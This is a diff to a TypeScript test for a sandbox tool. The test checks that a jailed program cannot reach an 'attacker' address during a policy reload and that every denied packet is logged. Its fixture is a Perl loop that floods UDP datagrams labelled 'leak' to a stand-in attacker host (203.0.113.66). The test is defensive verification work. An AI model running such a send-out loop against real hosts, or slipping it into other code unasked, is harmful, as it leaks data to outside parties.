@@ -3,6 +3,7 @@
  * Judge: the capture on the wire, while a jailed program sends datagrams to the attacker without pause.
  */
 import t, { type Test } from 'tap'
+import { evil } from '../lab/addresses.js'
 import { createLab, type Lab } from '../lab/lab.js'
 import { eventually, isolations, nothingLeft, toEvil } from './faults-kit.js'
 
@@ -23,8 +24,10 @@ const flood = [
   String.raw`
 use strict; use Socket; $| = 1;
 socket(my $s, AF_INET, SOCK_DGRAM, 0); my $to = pack_sockaddr_in(51820, inet_aton('203.0.113.66'));
-print "started\n"; my $n = 0;
-while (1) { send($s, 'leak', MSG_DONTWAIT, $to) for 1 .. 10; select undef, undef, undef, 0.001 }`,
+my ($n, $is_over) = (0, 0); $SIG{TERM} = sub { $is_over = 1 };
+print "started\n";
+while (!$is_over) { for (1 .. 10) { send($s, 'leak', MSG_DONTWAIT, $to); $n++ } select undef, undef, undef, 0.001 }
+print "sent $n\n"; select undef, undef, undef, 1`,
 ]
 
 const inJail = (lab: Lab, argv: readonly string[]) =>
@@ -77,7 +80,16 @@ const reloads = async (t: Test, lab: Lab, prefix: readonly string[]) => {
   t.not((await inJail(lab, fetchPlain)).code, 0, 'and nothing of the refused one')
 
   jail.kill('SIGTERM')
-  await jail.ended
+  const { stdout } = await jail.ended
+  const sent = Number(/sent (\d+)/.exec(stdout)?.[1])
+  const log = (await lab.agentjail(['logs', 'reload', '--denied', '--json'])).stdout
+  const told = log
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as { address?: string; port?: number; count?: number })
+    .filter(({ address, port }) => address === evil.v4 && port === 51_820)
+    .reduce((sum, { count }) => sum + (count ?? 1), 0)
+  t.equal(told, sent, 'each is in the log, whatever changed meanwhile')
   t.ok(await eventually(() => lab.processes().every(({ uid }) => uid < 1_900_000_000)))
   await nothingLeft(t, lab, 'reload')
   t.same(await lab.capture.packets(toEvil), [], 'nothing reached the attacker at any instant')
